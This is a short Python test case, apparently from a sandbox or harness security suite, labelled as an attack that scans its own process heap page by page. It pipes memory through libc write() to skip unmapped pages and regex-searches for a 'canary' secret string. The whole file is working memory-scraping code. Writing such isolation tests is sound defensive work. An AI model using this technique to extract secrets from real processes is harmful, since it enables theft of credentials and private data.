# /// attack
# title = "Reads its own heap, byte by byte"
# moments = ["call"]
# expect = { result = "at most", lost = ["timeout"] }
# ///
import ctypes
import gc
import os
import re


def pages():
    """Where objects are, to whole megabytes and one on either side."""
    places = {id(thing) >> 20 for thing in gc.get_objects()}
    return sorted({near for place in places for near in (place - 1, place, place + 1)})


def attack():
    libc = ctypes.CDLL(None)
    wanted = re.compile(b"canary" + b"-(?!smug)[a-z]+-[0-9a-f]{16}")
    reader, writer = os.pipe()
    for place in pages():
        for page in range(256):
            address = (place << 20) + (page << 12)
            # a write from a page that is not there fails; reading it would crash
            if libc.write(writer, ctypes.c_void_p(address), ctypes.c_size_t(4096)) == 4096:
                found = wanted.search(os.read(reader, 4096))
                if found:
                    return found.group().decode()
    return None
